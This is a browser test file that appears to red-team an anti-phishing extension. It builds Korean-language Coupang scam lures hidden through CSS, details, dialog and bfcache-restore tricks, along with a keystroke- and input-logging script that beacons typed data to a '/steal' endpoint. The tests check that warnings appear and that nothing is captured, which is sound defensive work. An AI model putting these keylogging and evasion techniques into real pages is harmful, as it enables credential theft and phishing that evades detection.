import { beforeAll, expect, test } from 'vitest';
import { forEachBrowser, type Session, type Tab, type TestServer } from '../harness';
import { expectNoWarningFor, expectPageWarning } from '../page-helpers';
import {
  AWAY,
  CLONE,
  CLONE_TITLE as TITLE,
  attackSettled,
  hiddenClone,
  isWarningUrl,
  stolen,
  userTypes,
} from './kit';

/**
 * Red team 39 (docs/threat-model.md, "Red team 39"). The page's own script attacks. Hidden containers the
 * visibility reader may read wrong (a call-only lure under a `visibility:hidden` wrapper, a closed `<details>` or
 * `<dialog>` opened later, `hidden=until-found`), and pages restored from the back/forward cache (the harness keeps
 * it on for this file: Chromium without Playwright's `--disable-back-forward-cache`, pages served without
 * `cache-control: no-store`).
 */
const settle = (ms = 1_000) => new Promise((r) => setTimeout(r, ms));

/** the kit's ears: trusted keys on `window` and every `input` with the box's value */
const EARS = `<script>
window.steal = function (kind, data) {
  try { navigator.sendBeacon('/steal?' + kind + '=' + encodeURIComponent(String(data).slice(0, 300))); } catch (e) {}
};
window.addEventListener('keydown', function (e) { if (e.isTrusted) steal('key', e.key); }, true);
document.addEventListener('input', function (e) { steal('input', e.target && e.target.value); }, true);
</script>`;

const page = (title: string, head: string, body: string, script = '') =>
  `<!doctype html><html lang="ko"><head><meta charset="utf-8"><title>${title}</title>${EARS}${head}</head><body>
${body}
<script>${script}
steal('ready', 'yes');
</script></body></html>`;

/** a call-only lure in plain paragraphs: no form, no heading, no field (what the browser is asked about) */
const LURE = `<div class="logo">쿠팡</div><p><b>해외 결제 1,290,000원이 승인되었습니다</b></p>
<p>본인이 결제하지 않았다면 오늘 안에 결제 취소 전담팀에 전화하십시오. 당일 미신고 시 취소가 불가합니다.</p>
<p>결제 취소 상담: <a href="tel:07077012233">070-7701-2233</a></p>`;

/** v1: the lure under an inline `visibility:hidden` wrapper, its box made visible by a class of the page's sheet */
const V1 = page(
  '동네 빵집',
  `<style>.c{visibility:visible}</style>`,
  `<p>오늘의 빵을 소개합니다.</p><div style="visibility:hidden"><div class="c">${LURE}</div></div>`,
);
/** v1b: the same, each paragraph made visible by the class (no box around them) */
const V1B = page(
  '동네 빵집',
  `<style>.c{visibility:visible}</style>`,
  `<p>오늘의 빵을 소개합니다.</p><div style="visibility:hidden">${LURE.replace(/<(p|div)( class="logo")?>/g, (_m, t: string, l?: string) => `<${t} class="c${l ? ' logo' : ''}">`)}</div>`,
);
/** v2: a closed `<details>` the script opens after the first scan */
const V2 = page(
  '동네 빵집',
  '',
  `<p>오늘의 빵을 소개합니다.</p><details id="d"><summary>더 보기</summary>${LURE}</details>`,
  `setTimeout(function () { document.getElementById('d').open = true; }, 3000);`,
);
/** v3: a closed `<dialog>` shown with showModal() after the first scan */
const V3 = page(
  '동네 빵집',
  '',
  `<p>오늘의 빵을 소개합니다.</p><dialog id="d">${LURE}</dialog>`,
  `setTimeout(function () { document.getElementById('d').showModal(); }, 3000);`,
);
/** v4: `hidden=until-found`, revealed by the reader's click on an in-page link (the browser removes `hidden`) */
const V4 = page(
  '동네 빵집',
  '',
  `<p>오늘의 빵을 소개합니다. <a id="more" href="#m">자세히</a></p><div hidden="until-found"><p id="m">안내</p>${LURE}</div>`,
);
/** hv: honest twin: a bakery's notice revealed by the same wrapper trick (an animation's first frame), its own number */
const HV = page(
  '동네 빵집',
  `<style>.c{visibility:visible}</style>`,
  `<h1>동네 빵집</h1><p>오늘의 빵을 소개합니다.</p><div style="visibility:hidden"><div class="c">
<p>주문 안내: 케이크 예약은 전화로 받습니다. <a href="tel:0212345678">02-1234-5678</a></p>
<p>쿠팡에서도 파나요? 아니요, 매장에서만 팝니다.</p></div></div>`,
);

const BAKERY = `<div id="root"><h1>동네 빵집</h1><p>오늘의 빵을 소개합니다.</p><a id="away" href="/away">다음 글</a></div>`;

/** b1: an honest page, left and come back to: it turns into the clone on `pageshow` (persisted) */
const B1 = page(
  '동네 빵집',
  '',
  BAKERY,
  `window.addEventListener('pageshow', function (e) {
  if (!e.persisted) return;
  document.title = ${TITLE};
  document.getElementById('root').innerHTML = ${hiddenClone};
  steal('restored', 'yes');
});`,
);
/** b2: the same, the clone put in as the page is frozen into the cache (`pagehide`) */
const B2 = page(
  '동네 빵집',
  '',
  BAKERY,
  `window.addEventListener('pagehide', function (e) {
  if (!e.persisted) return;
  document.title = ${TITLE};
  document.getElementById('root').innerHTML = ${hiddenClone};
});
window.addEventListener('pageshow', function (e) { if (e.persisted) steal('restored', 'yes'); });`,
);
/** b3: the clone itself, warned; the victim goes Back from the warning page to it (restored from the cache?) */
const B3 = page(
  '쿠팡 회원 로그인',
  '',
  CLONE,
  `window.addEventListener('pageshow', function (e) { steal(e.persisted ? 'restored' : 'loaded', 'yes'); });`,
);
/** hb: honest twin: a bakery login left and restored, nothing changes */
const HB = page(
  '동네 빵집',
  '',
  `<div id="root"><h1>동네 빵집</h1><form onsubmit="return false"><h2>빵집 회원 로그인</h2>
<input name="id" placeholder="아이디" style="width:320px;height:40px">
<input id="pw" type="password" name="pw" placeholder="비밀번호" style="width:320px;height:40px"><button>로그인</button></form>
<a id="away" href="/away">다음 글</a></div>`,
  `window.addEventListener('pageshow', function (e) { if (e.persisted) steal('restored', 'yes'); });`,
);

/** Serves a host's pages as a cacheable site does (no `cache-control: no-store`, which keeps pages out of bfcache) */
function serveCacheable(server: TestServer, host: string, pages: Record<string, string>): void {
  server.route(host, (req, res) => {
    const path = (req.url ?? '/').split('?')[0]!;
    const html = pages[path];
    if (html === undefined) {
      res.writeHead(204).end();
      return;
    }
    res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
    res.end(html);
  });
}

/** What reached the kit's listeners of the password typed */
const typed = (s: TestServer, host: string) =>
  [...stolen(s, host, 'key'), ...stolen(s, host, 'input')].map((r) => decodeURIComponent(r.path));

async function onPage(s: Session, tab: Tab): Promise<boolean> {
  return !isWarningUrl(s, await tab.evaluate(() => location.href).catch(() => tab.url()));
}

forEachBrowser('hostile: red team 39, hidden containers and the back/forward cache', (ctx) => {
  let s: Session;
  beforeAll(async () => {
    s = await ctx.start({ bfcache: true });
  });

  /** a call-only lure: open it, do what it says (click what it points to), and a warning must stand */
  async function lure(host: string, html: string, click?: string): Promise<void> {
    ctx.server.page(host, '/a', html);
    const tab = await s.newTab(ctx.server.url(host, '/a'));
    await tab.bringToFront();
    await attackSettled(s, tab, ctx.server, host);
    await settle(2_000);
    if (click && (await onPage(s, tab))) {
      const at = await tab.evaluate((sel: string) => {
        const r = document.querySelector(sel)!.getBoundingClientRect();
        return { x: r.left + r.width / 2, y: r.top + r.height / 2 };
      }, click);
      await tab.mouseClick(at.x, at.y);
    }
    const w = await expectPageWarning(s, tab, 12_000);
    expect(w.kind).toBe('suspicious-page');
    await tab.close();
  }

  test('v1. a call-only lure made visible inside a visibility:hidden wrapper', () =>
    lure('rt39-v1.example.test', V1));
  test('v1b. a call-only lure, each paragraph made visible inside a visibility:hidden wrapper', () =>
    lure('rt39-v1b.example.test', V1B));
  test('v2. a call-only lure in a closed <details> opened later', () => lure('rt39-v2.example.test', V2));
  test('v3. a call-only lure in a closed <dialog> shown with showModal() later', () =>
    lure('rt39-v3.example.test', V3));
  test('v4. a call-only lure under hidden=until-found, revealed by an in-page link', () =>
    lure('rt39-v4.example.test', V4, '#more'));

  test('hv. an honest notice shown inside a visibility:hidden wrapper stays clean', async () => {
    const host = 'rt39-hv.example.test';
    ctx.server.page(host, '/a', HV);
    const tab = await s.newTab(ctx.server.url(host, '/a'));
    await tab.bringToFront();
    await attackSettled(s, tab, ctx.server, host);
    await expectNoWarningFor(tab, 5_000);
    await tab.close();
  });

  /** open, leave for /away, come Back; then type in the restored page */
  async function leaveAndReturn(host: string, tab: Tab): Promise<boolean> {
    await tab.goto(ctx.server.url(host, '/away'));
    await tab.waitForUrl(/\/away$/);
    await settle(1_000);
    await tab.evaluate(() => history.back()).catch(() => undefined);
    await tab.waitForUrl((u) => /\/login$/.test(u) || isWarningUrl(s, u));
    await settle(3_000);
    return stolen(ctx.server, host, 'restored').length > 0;
  }

  for (const [name, html] of [
    ['b1', B1],
    ['b2', B2],
  ] as const)
    test(`${name}. an honest page restored from the back/forward cache as the clone`, async () => {
      const host = `rt39-${name}.example.test`;
      serveCacheable(ctx.server, host, { '/login': html, '/away': AWAY });
      const tab = await s.newTab(ctx.server.url(host, '/login'));
      await tab.bringToFront();
      await attackSettled(s, tab, ctx.server, host);
      await settle(2_000);
      const restored = await leaveAndReturn(host, tab);
      if (await onPage(s, tab)) await userTypes(tab, '#pw', 'hunter2');
      await settle(2_000);
      const got = typed(ctx.server, host);
      const still = await onPage(s, tab);
      await tab.close();
      expect({ restored, got, warned: !still }).toEqual({ restored: true, got: [], warned: true });
    });

  test('b3. Back from the warning page to the clone: warned again', async () => {
    const host = 'rt39-b3.example.test';
    serveCacheable(ctx.server, host, { '/login': B3, '/away': AWAY });
    const tab = await s.newTab(ctx.server.url(host, '/login'));
    await tab.bringToFront();
    await expectPageWarning(s, tab, 15_000);
    await settle(1_000);
    await tab.evaluate(() => history.back()).catch(() => undefined);
    await settle(4_000);
    const where = await tab.evaluate(() => location.href).catch(() => tab.url());
    const restored = stolen(ctx.server, host, 'restored').length > 0;
    if (await onPage(s, tab)) await userTypes(tab, '#pw', 'hunter2');
    await settle(2_000);
    const got = typed(ctx.server, host);
    const still = await onPage(s, tab);
    await tab.close();
    console.log(`b3 ${ctx.name}: back to ${where}, restored ${restored}`);
    expect({ got, warned: !still }).toEqual({ got: [], warned: true });
  });

  test('hb. an honest login left and restored stays clean and typed', async () => {
    const host = 'rt39-hb.example.test';
    serveCacheable(ctx.server, host, { '/login': HB, '/away': AWAY });
    const tab = await s.newTab(ctx.server.url(host, '/login'));
    await tab.bringToFront();
    await attackSettled(s, tab, ctx.server, host);
    await settle(1_000);
    const restored = await leaveAndReturn(host, tab);
    await userTypes(tab, '#pw', 'hunter2');
    await expectNoWarningFor(tab, 3_000);
    expect({
      restored,
      value: await tab.evaluate(() => (document.getElementById('pw') as HTMLInputElement).value),
    }).toEqual({ restored: true, value: 'hunter2' });
    await tab.close();
  });
});
